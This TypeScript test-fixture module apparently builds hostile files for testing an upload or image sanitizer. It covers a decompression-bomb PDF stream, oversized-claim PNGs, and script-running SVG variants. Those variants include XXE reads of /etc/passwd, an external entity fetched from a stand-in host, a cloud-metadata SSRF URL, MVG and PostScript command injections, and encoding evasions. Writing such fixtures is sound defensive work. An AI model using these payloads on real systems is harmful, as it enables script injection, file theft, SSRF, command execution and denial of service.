import { crc32, deflateSync } from "node:zlib";

/** A PDF written by hand: its objects in order (the first is the catalogue), with a table of where they are. */
export function pdf(objects: (string | Buffer)[], version = "1.4"): Buffer {
  const parts: Buffer[] = [Buffer.from(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`, "latin1")];
  const places: number[] = [];
  let length = parts[0]!.length;
  objects.forEach((object, index) => {
    places.push(length);
    const part = Buffer.concat([
      Buffer.from(`${index + 1} 0 obj\n`),
      typeof object === "string" ? Buffer.from(object, "latin1") : object,
      Buffer.from("\nendobj\n"),
    ]);
    parts.push(part);
    length += part.length;
  });
  const table = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${length}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

/** A page of `width` × `height` points whose drawing is `content`. */
export function pagePdf(content: string | Buffer, width = 595, height = 842, catalogue = ""): Buffer {
  return pdf([
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 ${width} ${height}]/Contents 4 0 R/Resources<<>>>>`,
    stream(typeof content === "string" ? Buffer.from(content) : content),
  ]);
}

export function stream(bytes: Buffer, dictionary = ""): Buffer {
  return Buffer.concat([
    Buffer.from(`<</Length ${bytes.length}${dictionary}>>\nstream\n`),
    bytes,
    Buffer.from("\nendstream"),
  ]);
}

/** A stream that unpacks to `megabytes` of drawing commands. */
export function bombStream(megabytes: number): Buffer {
  const unpacked = Buffer.alloc(megabytes * 1_048_576, "0 0 m 9 9 l S ");
  return stream(deflateSync(unpacked, { level: 1 }), "/Filter/FlateDecode");
}

/** A PNG that claims any size; its data may be far too short for it. */
export function png(width: number, height: number, data: Buffer = deflateSync(Buffer.alloc(1_000))): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from("\x89PNG\r\n\x1a\n", "latin1"),
    chunk("IHDR", header),
    chunk("IDAT", data),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

export function chunk(name: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(name, "latin1"), data]);
  const framed = Buffer.alloc(named.length + 8);
  framed.writeUInt32BE(data.length, 0);
  framed.set(named, 4);
  framed.writeUInt32BE(crc32(named), named.length + 4);
  return framed;
}

const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const DOCTYPE =
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">';
const latin = (text: string) => Buffer.from(text, "latin1");
const utf16be = (text: string) => Buffer.from(text, "utf16le").swap16();

/** The same picture that runs scripts, in every dress that has fooled somebody. */
export const SVG_VARIANTS: [name: string, bytes: Buffer][] = [
  ["plain", latin(SVG)],
  ["with a prolog", latin(`<?xml version="1.0"?>${SVG}`)],
  ["with an encoding", latin(`<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n${SVG}`)],
  ["with a doctype", latin(`${DOCTYPE}${SVG}`)],
  ["with prolog and doctype", latin(`<?xml version="1.0"?>\n${DOCTYPE}\n${SVG}`)],
  ["with entities", latin(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`)],
  ["with a parameter entity", latin(`<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://x.example/"> %x;]><svg/>`)],
  ["after white space", latin(`\n\t \r\n${SVG}`)],
  ["after a comment", latin(`<!-- a picture -->${SVG}`)],
  ["after a long comment", latin(`<!--${"x".repeat(3_000)}-->${SVG}`)],
  ["after a comment longer than anybody looks", latin(`<!--${"x".repeat(9_000)}-->${SVG}`)],
  ["after a byte order mark", Buffer.from(`\uFEFF${SVG}`)],
  ["after two byte order marks", Buffer.from(`\uFEFF\uFEFF${SVG}`)],
  ["in UTF-16 LE", Buffer.from(`\uFEFF${SVG}`, "utf16le")],
  ["in UTF-16 LE without mark", Buffer.from(SVG, "utf16le")],
  ["in UTF-16 BE", utf16be(`\uFEFF${SVG}`)],
  ["in UTF-16 BE without mark", utf16be(SVG)],
  ["in UTF-32", Buffer.from([...SVG].flatMap((letter) => [letter.charCodeAt(0), 0, 0, 0]))],
  ["in capitals", latin(SVG.toUpperCase())],
  ["in mixed case", latin(SVG.replaceAll("svg", "sVg"))],
  ["under a prefix", latin('<x:svg xmlns:x="http://www.w3.org/2000/svg"/>')],
  ["with a foreign object", latin("<svg><foreignObject><body onload=alert(1)></body></foreignObject></svg>")],
  ["that loads from elsewhere", latin('<svg><image href="http://169.254.169.254/"/></svg>')],
  ["that reads a file", latin('<svg><image href="file:///etc/passwd"/></svg>')],
  ["self-closed", latin("<svg/>")],
  ["with a style instruction", latin(`<?xml-stylesheet href="javascript:alert(1)"?>${SVG}`)],
  ["packed (SVGZ)", Buffer.concat([latin("\x1f\x8b\x08\0"), Buffer.alloc(64)])],
  ["as MVG", latin("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example/\"|id\")'\npop")],
  ["as MSL", latin('<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>')],
  ["as PostScript", latin("%!PS-Adobe-3.0 EPSF-3.0\n(id) system")],
  ["as EPS with a preview", latin(`\xc5\xd0\xd3\xc6${"\0".repeat(30)}%!PS`)],
  ["with NULs in between", latin([...SVG].join("\0"))],
];
